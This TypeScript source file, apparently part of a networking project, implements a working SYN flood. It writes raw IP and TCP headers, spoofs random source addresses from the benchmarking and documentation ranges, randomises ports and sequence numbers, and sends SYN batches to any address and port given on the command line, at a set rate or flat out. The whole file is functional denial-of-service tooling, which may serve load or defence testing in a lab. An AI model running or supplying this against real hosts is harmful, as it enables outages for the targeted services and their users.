// A SYN flood: ADDRESS PORT RATE SECONDS. SYNs whose source addresses, ports and sequence numbers are random, each to ADDRESS:PORT,
// RATE a second (0: as many as go) for so long; at last it says how many went.
//   raw socket, the IP header written here → the host's own routes → wire
// Sources are of 198.18.0.0/15 and 2001:db8:f::/48, which are nobody's: nothing answers their SYN-ACKs.
import { finish, sum } from '../../src/kit/checksum.ts';
import { parseIp } from '../../src/kit/ip.ts';
import { AF, IOVEC, MMSGHDR, SOCK_RAW } from '../../src/nic/layout.ts';
import { openLibc } from '../../src/nic/libc.ts';
import { sockaddr } from '../../src/nic/sockaddr.ts';

const IPPROTO_RAW = 255;
const [TCP, SYN] = [6, 2];
/** SYNs of one call. */
const BATCH = 32;
/** What is late by more than that is not made up for: the flood is to be even. Seconds. */
const LATE = 0.01;

const [to, port, wanted, seconds] = process.argv.slice(2);
const rate = Number(wanted);
const target = parseIp(to) as Uint8Array;
const six = target.length === 16;
const [header, room] = six ? [40, 64] : [20, 64];
/** SYN with an MSS, as programs send it. */
const SEGMENT = 24;
const length = header + SEGMENT;

const frames = new Uint8Array(new ArrayBuffer(BATCH * room));
const view = new DataView(frames.buffer);
const vectors = new DataView(new ArrayBuffer(BATCH * (IOVEC.size + MMSGHDR.size)));
const libc = await openLibc();
const [framesAt, vectorsAt] = [libc.address(frames.buffer), libc.address(vectors.buffer)];
for (let i = 0; i < BATCH; i++) {
  const at = i * room;
  if (six) {
    frames.set([0x60, 0, 0, 0, 0, SEGMENT, TCP, 64, 0x20, 0x01, 0x0d, 0xb8, 0, 0x0f], at);
    frames.set(target, at + 24);
  } else {
    frames.set([0x45, 0, 0, length, 0, 0, 0x40, 0, 64, TCP, 0, 0, 198, 18], at);
    frames.set(target, at + 16);
  }
  const tcp = at + header;
  view.setUint16(tcp + 2, Number(port));
  frames.set([SEGMENT << 2, SYN, 0xff, 0xff], tcp + 12);
  frames.set([2, 4, 0x05, 0xb4], tcp + 20);
  const iov = BATCH * MMSGHDR.size + i * IOVEC.size;
  vectors.setBigUint64(iov + IOVEC.base, BigInt(framesAt + at), true);
  vectors.setBigUint64(iov + IOVEC.length, BigInt(length), true);
  vectors.setBigUint64(i * MMSGHDR.size + MMSGHDR.iov, BigInt(vectorsAt + iov), true);
  vectors.setUint32(i * MMSGHDR.size + MMSGHDR.iovCount, 1, true);
}
const fd = libc.socket(six ? AF.INET6 : AF.INET, SOCK_RAW, IPPROTO_RAW);
libc.connect(fd, sockaddr(to, 0));

let [sent, failed] = [0, 0];
let origin = performance.now();
const begun = origin;
const end = begun + Number(seconds) * 1000;
for (let now = begun; now < end; now = performance.now()) {
  if (rate === 0) send(BATCH);
  else {
    const due = Math.floor(((now - origin) * rate) / 1000);
    if (due < 1) libc.poll(0, 0, 1);
    else {
      send(Math.min(due, BATCH));
      origin = Math.max(origin + (Math.min(due, BATCH) * 1000) / rate, now - LATE * 1000);
    }
  }
}
libc.close(fd);
console.log(JSON.stringify({ sent, failed, seconds: (performance.now() - begun) / 1000 }));

function send(count: number): void {
  for (let i = 0; i < count; i++) fill(i * room);
  const went = libc.sendmmsg(fd, vectorsAt, count, 0);
  if (went > 0) sent += went;
  if (went < count) failed += count - Math.max(0, went);
}

// Another client: its address behind the prefix, its port, its sequence number.
function fill(at: number): void {
  const tcp = at + header;
  if (six) {
    view.setUint32(at + 16, Math.random() * 2 ** 32);
    view.setUint32(at + 20, Math.random() * 2 ** 32);
  } else {
    frames[at + 13] = 18 + Math.floor(Math.random() * 2);
    view.setUint16(at + 14, Math.random() * 2 ** 16);
  }
  view.setUint16(tcp, 1024 + Math.random() * 64_512);
  view.setUint32(tcp + 4, Math.random() * 2 ** 32);
  view.setUint16(tcp + 16, 0);
  // The pseudo-header's sum: both addresses, protocol, length.
  const pseudo = sum(frames, at + (six ? 8 : 12), tcp, TCP + SEGMENT);
  view.setUint16(tcp + 16, finish(sum(frames, tcp, tcp + SEGMENT, pseudo)));
}
